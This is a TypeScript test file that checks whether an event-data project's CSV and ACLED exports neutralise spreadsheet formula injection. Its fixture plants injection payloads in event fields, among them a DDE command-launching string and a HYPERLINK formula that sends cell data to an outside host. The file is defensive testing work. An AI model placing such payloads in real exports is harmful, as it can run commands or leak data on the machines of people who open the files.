import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Event } from '../../src/contracts/index.js';
import { shippedKnowledge } from '../../src/extract/index.js';
import { sha256Hex } from '../../src/ingest/index.js';
import { eventWriter, listEvents, openStore, saveReport } from '../../src/store/index.js';
import { REPORTS, resultOf } from '../link/reports.js';

const lexicon = shippedKnowledge().lexicon;

/** A stored event whose outlets, place and URL were written by someone hoping for a spreadsheet to run them. */
async function hostileEvent(): Promise<Event> {
  const db = await openStore({});
  try {
    const bytes = new TextEncoder().encode(JSON.stringify(REPORTS.shelling));
    await saveReport(
      db,
      {
        source: 'shelling.ndjson:1',
        format: 'ndjson',
        raw: bytes,
        sha256: sha256Hex(bytes),
        capturedAt: '2024-03-14T10:00:00.000Z',
      },
      resultOf('shelling'),
      lexicon,
    );
    const [event] = (await listEvents(db, {})).events;
    if (event?.location === null || event === undefined) throw new Error('no event with a place');
    const member = event.members[0];
    if (member === undefined) throw new Error('no member');
    return {
      ...event,
      location: { ...event.location, name_en: '+cmd|/C calc!A0', name_ar: '-2+3' },
      members: [
        { ...member, outlet: '=HYPERLINK("http://example.com/?"&A1,"click")', url: '\r=1+1' },
        { ...member, outlet: '@SUM(1,1)' },
        { ...member, outlet: '\t=1' },
      ],
    };
  } finally {
    await db.close();
  }
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports opened in a spreadsheet', () => {
  let event: Event;
  beforeAll(async () => {
    event = await hostileEvent();
  });

  it.each(['csv', 'acled'] as const)(
    'neutralise text a spreadsheet would run as a formula (%s)',
    (format) => {
      const writer = eventWriter(format, { lexicon });
      const rows = parse<Record<string, string>>(`${writer.head}${writer.row(event) ?? ''}`, {
        columns: true,
      });
      const cells = Object.entries(rows[0] ?? {});
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter(([, v]) => FORMULA_START.test(v))).toEqual([]);
      const outlets = format === 'csv' ? 'outlets' : 'source';
      expect(rows[0]?.[outlets]).toMatch(/^'=HYPERLINK\("http:\/\/example\.com/);
      const place = format === 'csv' ? 'place_en' : 'location';
      expect(rows[0]?.[place]).toBe("'+cmd|/C calc!A0");
      // Numbers are numbers: a fatality count or a coordinate is never quoted.
      expect(rows[0]?.latitude).toMatch(/^\d+\.\d+$/);
    },
  );
});
